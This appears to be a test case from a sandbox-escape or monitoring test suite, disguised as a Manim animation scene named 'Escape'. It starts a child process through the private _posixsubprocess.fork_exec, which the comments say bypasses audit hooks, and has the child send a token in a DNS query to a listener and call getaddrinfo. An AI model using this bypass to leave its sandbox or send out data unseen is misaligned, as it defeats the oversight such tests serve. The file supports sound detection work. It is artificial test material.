# ruff: noqa
# class: network
# tries: DNS from a child process started with fork_exec (no audit hook there): a DNS query for a name
#   carrying the token sent to the test's UDP listener as if it were a resolver, and getaddrinfo.
from manim import *
import _posixsubprocess, os, sys

CHILD = """
import socket, struct
name = b'__TOKEN__.example.com'
query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
query += b''.join(bytes([len(part)]) + part for part in name.split(b'.')) + b'\\0' + struct.pack('>HH', 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
    resolver.sendto(query, ('127.0.0.1', __UDP_PORT__))
try:
    print(socket.getaddrinfo('example.com', 80))
except OSError as error:
    print('getaddrinfo:', error)
"""


class Escape(Scene):
    def construct(self):
        read_end, write_end = os.pipe()
        pid = _posixsubprocess.fork_exec(
            [sys.executable, "-c", CHILD, "__TOKEN__"],
            [sys.executable.encode()],
            True,
            (write_end,),
            None,
            None,
            -1,
            -1,
            -1,
            -1,
            -1,
            -1,
            read_end,
            write_end,
            True,
            False,
            -1,
            None,
            None,
            None,
            -1,
            None,
            False,
        )
        os.close(write_end)
        os.read(read_end, 100)
        os.waitpid(pid, 0)
        self.play(FadeIn(Dot()), run_time=0.2)
